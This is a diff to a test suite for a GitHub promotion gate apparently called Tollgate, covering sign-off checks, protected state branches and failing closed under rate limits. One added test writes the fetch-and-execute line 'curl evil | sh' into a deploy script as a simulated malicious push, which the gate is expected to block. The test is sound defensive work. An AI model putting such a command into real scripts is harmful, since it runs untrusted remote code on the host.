@@ -224,8 +224,10 @@ describe('the sign-off gate on a promotion', () => {
     // Written by hand: production straight to v2, which never held staging.
     await gh.state.commit(FULL, BRANCH, { [STAGES]: stages('v2') }, 'Straight to production', 'tollgate-bot');
     const skip = await gate();
+    // v5, which the first commit set and the second replaced, would reach main's history through a rebase merge.
     expect(skip.result.pullRequests[0]!.verdict.blocking).toEqual([
       expect.stringContaining('fraud-detector: production → v2: skips a stage'),
+      expect.stringMatching(/fraud-detector: commit \w{7} points production at v5, which neither main nor/),
     ]);
   });
 
@@ -360,6 +362,59 @@ describe('the sign-off gate on a promotion', () => {
   });
 });
 
+describe('Tollgate state branches', () => {
+  const STATE_BRANCH = 'tollgate/state/merged/9';
+  const AUDIT = 'registry/audit/2026/11/20261125T000000Z-pr9-fraud-detector-production.yaml';
+  const event = (head: string): [string, Record<string, unknown>] => [
+    'pull_request_target',
+    { number: 1, pull_request: { number: 1, head: { sha: head } } },
+  ];
+
+  it('passes Tollgate’s state-only commit, and blocks whatever else a writer pushes onto the branch', async () => {
+    const record = await gh.state.commit(
+      FULL,
+      STATE_BRANCH,
+      {
+        [AUDIT]: [
+          'apiVersion: tollgate/v1',
+          'kind: AuditEvent',
+          'id: 20261125T000000Z-pr9-fraud-detector-production',
+          "at: '2026-11-25T00:00:00Z'",
+          'event: promotion-merged',
+          'actor: alice',
+          'model: fraud-detector',
+          'stage: production',
+          '',
+        ].join('\n'),
+      },
+      'Record merge of pull request #9\n\nTollgate-Event: merge-recorded\n',
+      'tollgate-bot',
+    );
+    gh.state.openPull(FULL, { head: STATE_BRANCH, user: 'tollgate-bot', labels: ['tollgate:state'] });
+    const state = await gate({ event: event(record) });
+    expect(state.result).toMatchObject({ conclusion: 'success' });
+    expect(state.result.pullRequests[0]!.verdict.stateOnly).toBe(true);
+
+    // Auto-merge stays on when someone with write access pushes: a promotion pushed here would need its sign-offs
+    // anyway, but any other change would be merged by Tollgate, unreviewed, under Tollgate's name.
+    const pushes: Record<string, string>[] = [
+      { 'scripts/deploy.sh': 'curl evil | sh\n' },
+      { [STAGES]: stages('v5') },
+    ];
+    for (const files of pushes) {
+      const pushed = await gh.state.commit(FULL, STATE_BRANCH, files, 'One more thing', 'mallory');
+      await approve('rita-risk', 'carol', 'alice');
+      const { result } = await gate({ event: event(pushed) });
+      expect(result.conclusion).toBe('failure');
+      expect(result.pullRequests[0]!.verdict.blocking).toContainEqual(
+        expect.stringMatching(
+          /^pull request from tollgate\/state\/merged\/9, a Tollgate state branch .* changes more than registry state/,
+        ),
+      );
+    }
+  });
+});
+
 describe('failing closed', () => {
   it('posts a failing check naming "Members: read" when team membership is forbidden', async () => {
     await openPromotion();
@@ -376,11 +431,17 @@ describe('failing closed', () => {
   it('posts a failing check, never a passing one, when GitHub rate-limits the gate', async () => {
     await openPromotion();
     await approve('rita-risk', 'carol', 'alice');
-    gh.fault('POST', GRAPHQL_TEMPLATE, { kind: 'rate-limit', resetInSeconds: 1 }, 10);
+    gh.fault('POST', GRAPHQL_TEMPLATE, { kind: 'rate-limit', resetInSeconds: 1 }, 2);
     const { result } = await gate({ client: gh.client({ retries: 1 }) });
     expect(result.conclusion).toBe('failure');
     expect(result.error).toMatch(/rate limit/i);
-    expect(checkRuns().map((run) => run.conclusion)).toEqual(['failure']);
+    expect(checkRuns().map((run) => [run.conclusion, run.title])).toEqual([
+      ['failure', expect.stringMatching(/^Could not evaluate, failed closed: /)],
+    ]);
+    // Once GitHub answers again, a re-run of the job evaluates and replaces the failure on the same check run.
+    const rerun = await gate({ client: gh.client({ retries: 1 }) });
+    expect(rerun.result.conclusion).toBe('success');
+    expect(checkRuns().map((run) => run.conclusion)).toEqual(['success']);
   });
 
   it('fails the job and posts nothing when the whole budget is spent (no check is better than a passing one)', async () => {
